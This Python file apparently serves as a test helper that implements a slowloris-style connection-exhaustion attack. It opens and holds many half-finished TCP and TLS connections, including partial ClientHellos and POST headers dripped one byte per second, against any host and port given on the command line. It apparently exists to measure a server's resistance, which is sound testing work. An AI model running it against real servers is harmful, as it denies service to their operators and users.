#!/usr/bin/env python3
"""Connections that are opened and never used: what they cost is what a server must bear.

  tcp   nothing after the connection        half  the first half of a ClientHello
  head  TLS, then half a request            drip  TLS, then a byte of the request per second

Run as a program it keeps `count` of them open, in equal parts, until it is ended, and prints once a
second how many are open and how often it was sent away:

  slowloris.py HOST PORT COUNT [SOURCES]      SOURCES: addresses to come from, 127.0.77.1 and on
"""
import select
import socket
import ssl
import subprocess
import sys
import time

import tlspeer

KINDS = ("tcp", "half", "head", "drip")
REQUEST = b"POST /arms HTTP/1.0\r\nContent-Type: text/xml\r\nContent-Length: 400\r\n"
OPENED_PER_TURN = 400
STEP_SECONDS = 5


class Slow:
    def __init__(self, kind, address, source, ctx):
        self.kind, self.tls, self.sent = kind, None, 0
        self.sock = socket.socket()
        self.sock.settimeout(STEP_SECONDS)
        if source:
            self.sock.bind((source, 0))
        self.sock.connect(address)
        if kind == "tcp":
            return
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self.incoming, self.outgoing)
        if kind == "half":
            try:
                self.tls.do_handshake()
            except ssl.SSLWantReadError:
                hello = self.outgoing.read()
                self.sock.sendall(hello[:len(hello) // 2])
            return
        tlspeer._handshake(self.sock, self.tls, self.incoming, self.outgoing)
        self.write(REQUEST if kind == "head" else REQUEST[:1])

    def write(self, data):
        self.tls.write(data)
        self.sent += len(data)
        self.sock.sendall(self.outgoing.read())


class Attack:
    def __init__(self, address, count, sources):
        self.address, self.count = address, count
        self.sources = [f"127.0.{77 + i // 250}.{1 + i % 250}" for i in range(sources)]
        self.ctx = tlspeer.context()
        self.open, self.poll = {}, select.poll()
        self.turned_away = self.made = 0

    def add(self):
        kind = KINDS[self.made % len(KINDS)]
        source = self.sources[self.made // len(KINDS) % len(self.sources)]
        self.made += 1
        try:
            slow = Slow(kind, self.address, source, self.ctx)
        except (OSError, ssl.SSLError):
            self.turned_away += 1
            return
        self.open[slow.sock.fileno()] = slow
        self.poll.register(slow.sock, select.POLLIN | select.POLLHUP)

    def drop(self, fd):
        self.turned_away += 1
        self.poll.unregister(fd)
        self.open.pop(fd).sock.close()

    def drip(self):
        for fd, slow in list(self.open.items()):
            if slow.kind == "drip" and slow.sent < len(REQUEST):
                try:
                    slow.write(REQUEST[slow.sent:slow.sent + 1])
                except OSError:
                    self.drop(fd)

    def turn(self):
        """About a second."""
        end = time.monotonic() + 1
        for _ in range(min(OPENED_PER_TURN, self.count - len(self.open))):
            self.add()
        self.drip()
        while (left := end - time.monotonic()) > 0:
            for fd, _ in self.poll.poll(left * 1000):
                self.drop(fd)


class Process:
    """The attack in a process of its own; `with` waits until as many are open as will be."""

    def __init__(self, address, count, sources=1, patience=60):
        self.command = [sys.executable, __file__, address[0], str(address[1]), str(count), str(sources)]
        self.count, self.patience = count, patience
        self.open = 0

    def read(self):
        self.open = int(self.child.stdout.readline().split()[1])
        return self.open

    def __enter__(self):
        self.child = subprocess.Popen(self.command, stdout=subprocess.PIPE, text=True)
        deadline, best, since = time.monotonic() + self.patience, 0, time.monotonic()
        while time.monotonic() < deadline and self.read() < self.count * 0.98:
            if self.open > best * 1.02:
                best, since = self.open, time.monotonic()
            if time.monotonic() - since > 5:
                break  # the server lets no more in
        return self

    def __exit__(self, *unused):
        self.child.kill()
        self.child.wait()
        self.child.stdout.close()


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = Attack((host, port), count, int(sys.argv[4]) if len(sys.argv) > 4 else 1)
    while True:
        attack.turn()
        print(f"open {len(attack.open)} turned away {attack.turned_away}", flush=True)


if __name__ == "__main__":
    main()
